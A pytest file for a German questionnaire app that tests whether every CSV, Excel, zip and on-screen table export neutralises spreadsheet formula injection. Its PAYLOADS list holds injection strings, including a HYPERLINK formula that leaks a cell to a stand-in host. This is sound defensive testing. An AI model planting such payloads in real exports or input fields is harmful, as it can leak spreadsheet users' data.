"""No user text reaches a downloaded file as a formula, whichever export or reader (issue 13, 9/10).

Every export is read back the way a victim's spreadsheet would: CSV split at "," and at ";"
(German and English Excel), and .xlsx cell by cell. No cell may start with a formula
character (also after blanks, and in the full-width forms), and numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import sys
import unicodedata
import zipfile

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import Engine

from mintqo.io import aggregate_export, answers_export
from mintqo.io.data_export import export_zip
from mintqo.io.offline_template import TemplateContent, template_csv, template_xlsx, validate_file
from mintqo.io.tabular import (
    FORMULA_CHARACTERS,
    csv_bytes,
    display_safe,
    excel_bytes,
    restore_text,
    safe_frame,
    spreadsheet_safe,
)
from mintqo.questionnaire import load_questionnaire
from mintqo.store.engine import write_session
from mintqo.store.models import ActionItem, Initiative, Network, Project

PAYLOADS = [
    '=HYPERLINK("http://x/?leak="&A2,"Details")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\t=1",
    "＝1",
    "Kosten,=HYPERLINK(A1&B1)",
    "Kosten;@SUM(A1)",
    " =1+1",
    "Notiz\n=1+1",
    "Notiz\r-1+1",
    'a,"=1',
    "﹦1",
]
NEGATIVES = [-2.5, -1.0, 3.0, -0.5, 1.5, -7.0, 8.0, -4.25, 0.0, -1.5, 2.0, -3.0, 9.5]
# A number, alone or followed by our ';' (a ','-reader cuts "-2,5;…" into "-2" and "5;…", and a
# cell that lost its quotes may run on into the next one): "-1;…" is no formula, an operator
# would have to follow the number.
_NUMBER = re.compile(r"^[-+]?\d+(?:[.,]\d+)?(?:[eE][-+]?\d+)?(?:;|\s|$)")


def starts_formula(cell: str) -> bool:
    """Would a spreadsheet take this cell (as read from a file) for a formula?

    Also after blanks, tabs, line breaks or quotes that an import may trim."""
    stripped = cell.lstrip(' \t\r\n\u00a0\u3000"')
    if _NUMBER.match(stripped):
        return False
    return stripped[:1] != "" and stripped[0] in FORMULA_CHARACTERS


def csv_cells(data: bytes) -> dict[str, list[list[str]]]:
    """The CSV as a ','-reader and a ';'-reader see it."""
    text = data.decode("utf-8-sig")
    return {sep: list(csv.reader(io.StringIO(text, newline=""), delimiter=sep)) for sep in ",;"}


def assert_csv_safe(data: bytes) -> None:
    for sep, rows in csv_cells(data).items():
        bad = [(sep, cell) for row in rows for cell in row if starts_formula(cell)]
        assert not bad, bad


def assert_xlsx_safe(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c for c in cells if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in texts)
    assert not [c.value for c in texts if starts_formula(c.value)]
    return cells


def dangerous_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Projekt": PAYLOADS,
            "Veränderung": NEGATIVES,
            "Anzahl": [-(i % 3) for i in range(len(PAYLOADS))],
            "Notiz": list(reversed(PAYLOADS)),
        }
    )


# --- the neutraliser ----------------------------------------------------------------------------


def test_formula_characters_are_exactly_what_nfkc_turns_into_a_formula_start():
    derived = {
        chr(c)
        for c in range(sys.maxunicode + 1)
        if unicodedata.normalize("NFKC", chr(c)) in {"=", "+", "-", "@"}
    }
    assert set(FORMULA_CHARACTERS) == derived


@pytest.mark.parametrize("text", PAYLOADS)
def test_every_payload_is_neutralised_and_restored(text):
    safe = spreadsheet_safe(text)
    # no cell a reader could cut out of it (at , ; tab CR LF) starts a formula
    assert not [part for part in re.split(r"[,;\t\r\n]", safe) if starts_formula(part)]
    assert not starts_formula(safe)
    assert spreadsheet_safe(safe) == safe  # idempotent
    assert restore_text(safe) == text


@pytest.mark.parametrize(
    "text, expected",
    [
        ("=1", "'=1"),
        ("\tfoo", "'\tfoo"),  # a leading tab or CR gets the apostrophe, whatever follows
        ("\rfoo", "'\rfoo"),
        ("  +49 30 1234", "'  +49 30 1234"),
        ("＠Team", "'＠Team"),
    ],
)
def test_the_apostrophe_goes_in_front(text, expected):
    assert spreadsheet_safe(text) == expected


@pytest.mark.parametrize(
    "text", ["Robotik-Werkstatt", "MINT-Region Nord", "3-2", "E-Mail: x@y.de", "a=b", "", "'=x"]
)
def test_ordinary_text_is_unchanged(text):
    assert spreadsheet_safe(text) == text


def test_an_apostrophe_also_goes_where_another_separator_starts_a_cell():
    assert spreadsheet_safe("Kosten,=HYPERLINK(A1&B1)") == "Kosten,'=HYPERLINK(A1&B1)"
    assert spreadsheet_safe("a; -5 %") == "a;' -5 %"
    assert spreadsheet_safe("Zeile 1\n@SUMME(A1)") == "Zeile 1\n'@SUMME(A1)"


@pytest.mark.parametrize("value", [-3, -2.5, 0, 7, None, True, pd.NA, dt.date(2026, 1, 1)])
def test_non_text_is_untouched(value):
    assert spreadsheet_safe(value) is value


_TEXT = st.text(alphabet=st.sampled_from(list("ab1 ,;\t\r\n\"'=+-@＝＠﹦\u00a0")), max_size=30)


@given(_TEXT.filter(lambda text: "'" not in text))
def test_restore_undoes_the_neutraliser_for_any_text(text):
    assert restore_text(spreadsheet_safe(text)) == text


@given(
    st.lists(st.tuples(_TEXT, st.integers(-99, 99), st.floats(-1e6, 1e6)), min_size=1, max_size=4)
)
def test_any_text_survives_both_readers_without_a_formula(rows):
    frame = pd.DataFrame(
        [(number, text, whole, text[::-1]) for text, whole, number in rows],
        columns=["Wert", "Text", "Anzahl", "Umgekehrt"],
    )
    assert_csv_safe(csv_bytes(frame))


# --- every export ---------------------------------------------------------------------------------


def test_csv_bytes_keeps_numbers_numeric_and_quotes_text():
    data = csv_bytes(dangerous_frame())
    assert_csv_safe(data)
    back = pd.read_csv(io.BytesIO(data), sep=";", encoding="utf-8-sig", decimal=",")
    assert list(back["Veränderung"]) == NEGATIVES
    assert back["Anzahl"].dtype.kind == "i"
    assert [restore_text(v) for v in back["Projekt"]] == PAYLOADS
    first_line = data.decode("utf-8-sig").split("\r\n")[1]
    assert first_line.startswith('"\'=HYPERLINK(""http')  # text quoted, apostrophe inside
    assert ";-2,5;0;" in first_line  # numbers unquoted, German decimal comma


def test_excel_bytes_stores_text_cells_and_numbers():
    cells = assert_xlsx_safe(excel_bytes({"Daten": dangerous_frame()}))
    numbers = [c.value for c in cells if c.column == 2 and c.row > 1]
    assert numbers == NEGATIVES


def test_answers_exports():
    frame = pd.DataFrame(
        {"Kriterium": PAYLOADS, "Aussage": PAYLOADS, "Bewertung": [1, 2, 3, 4, 5] * 2 + [1, 2, 3]}
    )
    actions = pd.DataFrame({"Maßnahme": PAYLOADS, "Verantwortlich": list(reversed(PAYLOADS))})
    assert_csv_safe(answers_export.answers_csv(frame))
    assert_xlsx_safe(answers_export.answers_excel(frame, actions))


def test_aggregate_exports():
    frames = {
        "Netzwerkprofil": pd.DataFrame(
            {"Netzwerk": PAYLOADS, "Kriterium": PAYLOADS, "Mittelwert": NEGATIVES}
        ),
        "Vergleich": pd.DataFrame({"Reihe": PAYLOADS, "Mittelwert": NEGATIVES}),
    }
    data = aggregate_export.csv_of(frames)
    assert_csv_safe(data)
    assert "-2,5" in data.decode("utf-8-sig")
    cells = assert_xlsx_safe(aggregate_export.excel_of(frames))
    assert -2.5 in [c.value for c in cells]


def test_audit_log_csv():
    frame = pd.DataFrame(
        {
            "Zeit": ["01.12.2026 10:00"] * len(PAYLOADS),
            "Wer": PAYLOADS,
            "Aktion": ["initiative.rename"] * len(PAYLOADS),
            "Details": list(reversed(PAYLOADS)),
        }
    )
    assert_csv_safe(csv_bytes(frame))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_offline_template_is_safe_and_round_trips(fmt):
    q = load_questionnaire(1)
    notes = {c.id: PAYLOADS[i % len(PAYLOADS)] for i, c in enumerate(q.criteria)}
    content = TemplateContent(42, q, {q.items[0].id: 3}, notes, title=PAYLOADS[0])
    data = template_csv(content) if fmt == "csv" else template_xlsx(content)
    if fmt == "csv":
        assert_csv_safe(data)
    else:
        assert_xlsx_safe(data)
    result = validate_file(data, f"t.{fmt}", q, 42)
    assert result.ok, result.messages()
    expected = {k: v.strip().replace("\r", "\n") for k, v in notes.items()}
    got = {k: v.replace("\r", "\n") for k, v in result.parsed.notes.items()}
    assert got == expected


def test_data_export_zip(engine: Engine):
    with write_session(engine) as s:
        network = Network(name="Netz")
        s.add(network)
        s.flush()
        initiative = Initiative(name=PAYLOADS[0], network_id=network.id)
        s.add(initiative)
        s.flush()
        for text in PAYLOADS:
            project = Project(initiative_id=initiative.id, name=text[:200])
            s.add(project)
            s.flush()
            s.add(ActionItem(project_id=project.id, criterion_id="AQ1", what=text, who=text))
        initiative_id = initiative.id
    archive = zipfile.ZipFile(io.BytesIO(export_zip(engine, initiative_id)))
    names = [n for n in archive.namelist() if n.endswith(".csv")]
    assert {"initiative.csv", "projekte.csv", "massnahmen.csv"} <= set(names)
    for name in names:
        assert_csv_safe(archive.read(name))
    projects = pd.read_csv(io.BytesIO(archive.read("projekte.csv")), sep=";", encoding="utf-8-sig")
    assert projects["Nr."].dtype.kind == "i"  # German headers (issue 14, item 9)


# --- tables on screen -------------------------------------------------------------------------


def test_display_safe_neutralises_a_frame_copy():
    frame = dangerous_frame()
    frame["Kategorie"] = pd.Categorical(["=1", "a"] * 6 + ["b"])
    frame["Typ"] = frame["Projekt"].astype("string")
    frame.index = [f"-{i}" for i in range(len(frame))]
    frame = frame.rename(columns={"Notiz": "=Notiz"})
    safe = display_safe(frame)
    assert list(safe["Projekt"]) == [spreadsheet_safe(p) for p in PAYLOADS]
    assert list(safe["Typ"]) == list(safe["Projekt"])
    assert safe["Kategorie"].iloc[0] == "'=1"
    assert list(safe["Veränderung"]) == NEGATIVES and safe["Veränderung"].dtype == float
    assert "'=Notiz" in safe.columns and safe.index[0] == "'-0"
    assert list(frame["Projekt"]) == PAYLOADS  # the input is not changed
    assert display_safe(frame["Projekt"]).tolist() == list(safe["Projekt"])


def test_display_safe_neutralises_an_arrow_table():
    table = pa.table(
        {
            "Projekt": pa.array(PAYLOADS),
            "Gross": pa.array(PAYLOADS, type=pa.large_string()),
            "Kodiert": pa.array(PAYLOADS).dictionary_encode(),
            "Wert": pa.array(NEGATIVES),
        }
    )
    safe = display_safe(table)
    expected = [spreadsheet_safe(p) for p in PAYLOADS]
    for column in ("Projekt", "Gross", "Kodiert"):
        assert safe.column(column).to_pylist() == expected
    assert safe.column("Wert").to_pylist() == NEGATIVES
    assert table.column("Projekt").to_pylist() == PAYLOADS


def test_show_table_hands_streamlit_the_neutralised_copy():
    from streamlit.testing.v1 import AppTest

    def page():
        import pandas as pd

        from mintqo.ui.tables import show_table

        show_table(pd.DataFrame({"Projekt": ["=1+1", "Robotik"], "Wert": [-1, 2]}), key="t")
        show_table([{"Name": "@SUM(1)"}])

    at = AppTest.from_function(page).run()
    assert not at.exception
    first, second = at.dataframe
    assert list(first.value["Projekt"]) == ["'=1+1", "Robotik"]
    assert list(first.value["Wert"]) == [-1, 2]
    assert list(second.value["Name"]) == ["'@SUM(1)"]


def test_safe_frame_keeps_dtypes():
    frame = dangerous_frame()
    safe = safe_frame(frame)
    assert (safe.dtypes.values == frame.dtypes.values).all()
